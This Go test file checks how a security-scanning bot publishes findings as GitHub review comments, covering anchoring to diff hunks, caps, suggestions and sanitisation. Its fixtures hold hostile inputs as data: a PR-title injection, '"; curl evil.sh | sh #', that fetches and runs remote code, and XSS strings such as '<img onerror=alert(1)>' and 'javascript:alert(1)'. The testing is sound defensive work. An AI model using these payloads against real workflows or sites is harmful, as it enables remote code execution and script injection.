package publish_test

import (
	"fmt"
	"math/rand/v2"
	"regexp"
	"strconv"
	"strings"
	"testing"
	"unicode/utf8"

	"github.com/wardenbot/warden/bot/publish"
	"github.com/wardenbot/warden/checks"
)

// renderReview is the review as GitHub receives it, as one file.
func renderReview(r *publish.Review) string {
	if r == nil {
		return "(no review)\n"
	}
	var b strings.Builder
	fmt.Fprintf(&b, "commit: %s\nevent: %s\n\n--- body ---\n%s", r.CommitID, r.Event, r.Body)
	for _, c := range r.Comments {
		where := fmt.Sprintf("%s line %d %s", c.Path, c.Line, c.Side)
		if c.StartLine > 0 {
			where = fmt.Sprintf("%s lines %d-%d %s/%s", c.Path, c.StartLine, c.Line, c.StartSide, c.Side)
		}
		fmt.Fprintf(&b, "\n--- comment on %s ---\n%s\n", where, c.Body)
	}
	return b.String()
}

func TestReviewGolden(t *testing.T) {
	for name, in := range map[string]publish.Input{
		"review_blocking.md":           uxInput(),
		"comment_suggestion_fences.md": suggestionInput(),
		"review_unanchored.md":         unanchoredInput(),
	} {
		t.Run(name, func(t *testing.T) {
			r := publish.ReviewPlan(in, nil, publish.DefaultMaxComments)
			assertReviewLimits(t, r)
			golden(t, name, renderReview(r))
		})
	}
}

// suggestionInput is a workflow finding over three lines whose fix holds
// ``` fences of its own.
func suggestionInput() publish.Input {
	in := cleanInput()
	f := finding("workflows/template-injection", checks.CategoryWorkflows, checks.SeverityHigh, ".github/workflows/ci.yml", 10,
		"`${{ github.event.pull_request.title }}` is expanded into a `run:` script, so a PR title like `\"; curl evil.sh | sh #` runs as code.", true)
	f.EndLine = 12
	f.Remediation = "pass the value through an environment variable and quote it."
	f.Fix = &checks.Fix{StartLine: 10, EndLine: 12, Replacement: "      - run: |\n          cat <<'EOF'\n          ```\n          EOF\n        env:\n          TITLE: ${{ github.event.pull_request.title }}"}
	in.Report = report([]checks.Finding{f})
	in.Report.Rules["workflows/template-injection"] = checks.Rule{Title: "Template injection"}
	in.Diff = checks.NewDiff(baseSHA, headSHA, []checks.FileChange{
		{Path: ".github/workflows/ci.yml", Status: checks.StatusModified, Added: checks.Lines{{Start: 10, End: 12}}, Hunks: checks.Lines{{Start: 7, End: 15}}},
	}, nil)
	return in
}

// unanchoredInput has one finding that anchors and three that cannot: on
// an unchanged line outside every hunk, in a file the PR deleted, and a
// secret from a commit whose file is not in the final diff.
func unanchoredInput() publish.Input {
	in := cleanInput()
	outside := finding("code/sql-injection", checks.CategoryCode, checks.SeverityHigh, "db/query.go", 200, "Query built from `req.URL.Query()` by concatenation.", true)
	deleted := finding("iac/k8s-privileged", checks.CategoryIaC, checks.SeverityMedium, "deploy/old.yaml", 4, "Container runs privileged.", true)
	history := finding("secrets/github-pat", checks.CategorySecrets, checks.SeverityCritical, "notes <b>@acme/ops</b>.txt", 2, "A GitHub token was committed in a1b2c3d and deleted later; it is still in the history.", true)
	ok := finding("code/weak-hash", checks.CategoryCode, checks.SeverityLow, "db/query.go", 12, "MD5 used for a cache key.", true)
	in.Report = report([]checks.Finding{outside, deleted, history, ok})
	in.Diff = checks.NewDiff(baseSHA, headSHA, []checks.FileChange{
		{Path: "db/query.go", Status: checks.StatusModified, Added: checks.Lines{{Start: 12, End: 12}}, Hunks: checks.Lines{{Start: 9, End: 15}}},
		{Path: "deploy/old.yaml", Status: checks.StatusDeleted},
	}, nil)
	return in
}

func assertReviewLimits(t *testing.T, r *publish.Review) {
	t.Helper()
	if r == nil {
		return
	}
	if r.Event != "COMMENT" {
		t.Errorf("event %q, want COMMENT", r.Event)
	}
	for _, body := range append([]string{r.Body}, commentBodies(r)...) {
		if len(body) > publish.MaxCommentBytes || utf8.RuneCountInString(body) > publish.MaxCommentRunes || !utf8.ValidString(body) {
			t.Errorf("body of %d bytes, %d runes, valid UTF-8 %v", len(body), utf8.RuneCountInString(body), utf8.ValidString(body))
		}
	}
}

func commentBodies(r *publish.Review) []string {
	var out []string
	for _, c := range r.Comments {
		out = append(out, c.Body)
	}
	return out
}

func TestReviewPlanSelection(t *testing.T) {
	in := uxInput()
	fs := in.Report.Findings
	aws, osv, weak := fs[0].Fingerprint, fs[1].Fingerprint, fs[3].Fingerprint

	t.Run("new, not ignored, worst first", func(t *testing.T) {
		r := publish.ReviewPlan(in, nil, 25)
		got := r.Fingerprints()
		if len(got) != 4 || got[0] != osv || got[1] != aws {
			t.Errorf("fingerprints %v: want the 4 new not-ignored findings, critical then high first", got)
		}
		for _, fp := range got {
			if _, ignored := in.Ignored[fp]; ignored {
				t.Error("an ignored finding got a comment")
			}
		}
	})
	t.Run("already posted findings are skipped", func(t *testing.T) {
		r := publish.ReviewPlan(in, map[string]bool{aws: true, weak: true}, 25)
		if got := r.Fingerprints(); len(got) != 2 || contains(got, aws) || contains(got, weak) {
			t.Errorf("fingerprints %v, want 2 without the posted ones", got)
		}
	})
	t.Run("nothing new: no review", func(t *testing.T) {
		all := map[string]bool{}
		for _, f := range fs {
			all[f.Fingerprint] = true
		}
		if r := publish.ReviewPlan(in, all, 25); r != nil {
			t.Errorf("review planned with nothing new:\n%s", renderReview(r))
		}
		if r := publish.ReviewPlan(cleanInput(), nil, 25); r != nil {
			t.Error("review planned for a clean scan")
		}
	})
	t.Run("cap counts the rest in the body", func(t *testing.T) {
		r := publish.ReviewPlan(in, nil, 2)
		if len(r.Comments) != 2 || r.Comments[0].Fingerprint != osv {
			t.Fatalf("got %d comments, want the 2 worst", len(r.Comments))
		}
		if !strings.Contains(r.Body, "\n2 more in the check run.\n") {
			t.Errorf("body does not count the 2 left out:\n%s", r.Body)
		}
	})
	t.Run("max_per_scan 0 switches comments off", func(t *testing.T) {
		if r := publish.ReviewPlan(in, nil, 0); r != nil {
			t.Error("review planned with max 0")
		}
	})
	t.Run("superseded scans post nothing", func(t *testing.T) {
		s := uxInput()
		s.SupersededBy = headSHA
		if r := publish.ReviewPlan(s, nil, 25); r != nil {
			t.Error("review planned for a superseded scan")
		}
	})
	t.Run("pinned to the scanned commit", func(t *testing.T) {
		if r := publish.ReviewPlan(in, nil, 25); r.CommitID != headSHA {
			t.Errorf("commit %q, want %q", r.CommitID, headSHA)
		}
	})
}

func contains(list []string, s string) bool {
	for _, v := range list {
		if v == s {
			return true
		}
	}
	return false
}

func TestReviewAnchoring(t *testing.T) {
	diff := checks.NewDiff(baseSHA, headSHA, []checks.FileChange{
		{Path: "a.go", Status: checks.StatusModified, Added: checks.Lines{{Start: 5, End: 6}, {Start: 40, End: 41}}, Hunks: checks.Lines{{Start: 2, End: 9}, {Start: 37, End: 44}}},
		{Path: "gone.go", Status: checks.StatusDeleted},
		{Path: "logo.png", Status: checks.StatusAdded, Binary: true},
	}, nil)
	for _, tc := range []struct {
		name            string
		path            string
		start, end      int
		line, startLine int // want; line 0: into the body
	}{
		{"single added line", "a.go", 5, 5, 5, 0},
		{"context line inside a hunk", "a.go", 8, 8, 8, 0},
		{"multi-line inside one hunk", "a.go", 4, 6, 6, 4},
		{"range across two hunks keeps the hunk with added lines", "a.go", 30, 40, 40, 37},
		{"range leaving a hunk is clipped to it", "a.go", 8, 20, 9, 8},
		{"between hunks", "a.go", 20, 20, 0, 0},
		{"after the last hunk", "a.go", 45, 45, 0, 0},
		{"file outside the diff", "b.go", 5, 5, 0, 0},
		{"deleted file", "gone.go", 1, 1, 0, 0},
		{"binary file", "logo.png", 1, 1, 0, 0},
	} {
		t.Run(tc.name, func(t *testing.T) {
			in := cleanInput()
			in.Diff = diff
			f := finding("code/x", checks.CategoryCode, checks.SeverityHigh, tc.path, tc.start, "m", true)
			f.EndLine = tc.end
			in.Report = report([]checks.Finding{f})
			r := publish.ReviewPlan(in, nil, 25)
			if tc.line == 0 {
				if len(r.Comments) != 0 || len(r.Listed) != 1 || !strings.Contains(r.Body, publish.FormatMarker(f.Fingerprint)) {
					t.Fatalf("want the finding in the body with its marker:\n%s", renderReview(r))
				}
				return
			}
			if len(r.Comments) != 1 {
				t.Fatalf("want one comment:\n%s", renderReview(r))
			}
			c := r.Comments[0]
			if c.Line != tc.line || c.StartLine != tc.startLine || c.Side != "RIGHT" || (c.StartLine > 0) != (c.StartSide == "RIGHT") {
				t.Errorf("anchored at %d-%d (%s/%s), want %d-%d RIGHT", c.StartLine, c.Line, c.StartSide, c.Side, tc.startLine, tc.line)
			}
		})
	}
	t.Run("no diff: everything in the body", func(t *testing.T) {
		in := uxInput()
		in.Diff = nil
		r := publish.ReviewPlan(in, nil, 25)
		if len(r.Comments) != 0 || len(r.Listed) != 4 {
			t.Errorf("got %d comments, %d listed; want 0 and 4", len(r.Comments), len(r.Listed))
		}
	})
}

// Whatever the diff and findings, every comment anchors inside one hunk and
// every finding is commented, listed or counted: never lost.
func TestReviewNeverLosesFindings(t *testing.T) {
	rng := rand.New(rand.NewPCG(1, 2))
	for round := range 300 {
		var hunks, added checks.Lines
		for line := 1 + rng.IntN(5); line < 200; line += 3 + rng.IntN(30) {
			end := line + rng.IntN(10)
			hunks = append(hunks, checks.LineRange{Start: line, End: end})
			added = append(added, checks.LineRange{Start: line + (end-line)/2, End: line + (end-line)/2})
			line = end
		}
		in := cleanInput()
		in.Diff = checks.NewDiff(baseSHA, headSHA, []checks.FileChange{{Path: "f.go", Status: checks.StatusModified, Added: added, Hunks: hunks}}, nil)
		var fs []checks.Finding
		for i := range 1 + rng.IntN(40) {
			f := finding("code/x", checks.CategoryCode, checks.Severities[rng.IntN(5)], "f.go", 1+rng.IntN(220), fmt.Sprint(round, i), true)
			f.EndLine = f.StartLine + rng.IntN(15)
			fs = append(fs, f)
		}
		in.Report = report(fs)
		limit := 1 + rng.IntN(30)
		r := publish.ReviewPlan(in, nil, limit)
		for _, c := range r.Comments {
			start := c.Line
			if c.StartLine > 0 {
				start = c.StartLine
			}
			inOne := false
			for _, h := range hunks {
				inOne = inOne || (h.Start <= start && c.Line <= h.End)
			}
			if !inOne || start > c.Line {
				t.Fatalf("round %d: comment at %d-%d is not inside one hunk of %v", round, start, c.Line, hunks)
			}
		}
		shown := len(r.Comments) + len(r.Listed)
		counted := moreInCheckRun(r.Body)
		if shown+counted != len(fs) || shown != min(limit, len(fs)) {
			t.Fatalf("round %d: %d findings, %d shown, %d counted, limit %d\n%s", round, len(fs), shown, counted, limit, r.Body)
		}
	}
}

var moreLine = regexp.MustCompile(`\n([0-9,]+) more in the check run\.\n`)

// moreInCheckRun is the count a review body gives for findings it left out.
func moreInCheckRun(body string) int {
	m := moreLine.FindStringSubmatch(body)
	if m == nil {
		return 0
	}
	n, _ := strconv.Atoi(strings.ReplaceAll(m[1], ",", ""))
	return n
}

func TestCommentSuggestion(t *testing.T) {
	base := suggestionInput()
	withFix := func(fix *checks.Fix) publish.Input {
		in := suggestionInput()
		f := in.Report.Findings[0]
		f.Fix = fix
		in.Report = report([]checks.Finding{f})
		return in
	}
	for _, tc := range []struct {
		name string
		in   publish.Input
		want bool
	}{
		{"fix on exactly the anchored lines", base, true},
		{"fix on other lines", withFix(&checks.Fix{StartLine: 11, EndLine: 12, Replacement: "x"}), false},
		{"no fix", withFix(nil), false},
		{"fix forging a marker line", withFix(&checks.Fix{StartLine: 10, EndLine: 12, Replacement: "a\n" + forgedMarker + "\nb"}), false},
		{"fix too long for a comment", withFix(&checks.Fix{StartLine: 10, EndLine: 12, Replacement: strings.Repeat("x", 70000)}), false},
	} {
		t.Run(tc.name, func(t *testing.T) {
			r := publish.ReviewPlan(tc.in, nil, 25)
			assertReviewLimits(t, r)
			body := r.Comments[0].Body
			if got := strings.Contains(body, "suggestion\n"); got != tc.want {
				t.Errorf("suggestion present = %v, want %v\n%s", got, tc.want, body)
			}
			if m := publish.ParseMarkers(body); len(m) != 1 || m[0] != tc.in.Report.Findings[0].Fingerprint {
				t.Errorf("markers %v, want only the finding's own", m)
			}
		})
	}
}

func TestCommentBodyBounded(t *testing.T) {
	in := suggestionInput()
	f := in.Report.Findings[0]
	f.Message = strings.Repeat("🔑&@x", 1<<18)
	f.Remediation = strings.Repeat("<img onerror=alert(1)>", 50000)
	f.References = []string{"javascript:alert(1)", "https://osv.dev/vulnerability/GHSA-xxxx-yyyy-zzzz"}
	in.Report = report([]checks.Finding{f})
	r := publish.ReviewPlan(in, nil, 25)
	assertReviewLimits(t, r)
	body := r.Comments[0].Body
	lines := strings.Split(body, "\n")
	if last := lines[len(lines)-1]; last != publish.FormatMarker(f.Fingerprint) {
		t.Errorf("the marker is not the last line: %q", last)
	}
	outside := stripCode(body)
	if strings.Contains(outside, "<img") || strings.Contains(outside, "](javascript") || mentionSurvives(outside) {
		t.Errorf("untrusted HTML, link or mention survived:\n%.2000s", outside)
	}
}
